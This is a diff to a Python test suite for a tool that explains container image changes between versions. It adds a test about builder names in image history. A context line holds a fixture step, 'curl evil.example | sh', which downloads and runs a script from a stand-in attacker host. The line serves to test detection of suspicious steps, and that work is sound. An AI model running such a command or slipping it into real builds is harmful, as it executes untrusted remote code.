@@ -347,6 +347,20 @@ def test_a_long_step_is_told_by_what_differs_in_it() -> None:
     assert shown["added"][0].endswith("2~bookworm")
 
 
+@pytest.mark.parametrize("builder", ["apko", "ko build ko://example.com/x", "bazel build ..."])
+def test_a_builder_s_name_is_no_build_step(builder: str) -> None:
+    before, after = (build(Step(created_by=builder, files={"bin": n})) for n in "12")
+    change = explain(before, after, versions=("1.0", "1.0"))
+    assert change.verdict is Verdict.UNKNOWN
+    assert f"only names what built it ('{builder}')" in change.reason
+    jib = Step(created_by="jib-maven-plugin:3.4", files={"a": builder})
+    later = Step(created_by="jib-maven-plugin:3.4", files={"a": "other"})
+    change = explain(
+        build(jib, base=debian()), build(later, base=debian()), versions=("1.0", "1.0")
+    )
+    assert change.verdict is Verdict.REBUILT, "the base's own steps are told"
+
+
 def test_a_changed_user_does_not_hide_a_changed_step() -> None:
     evil = build(run("curl evil.example | sh"), user("app"), base=redis(1))
     reason = explain(redis(0), evil, versions=("6.2.14", "6.2.14")).reason
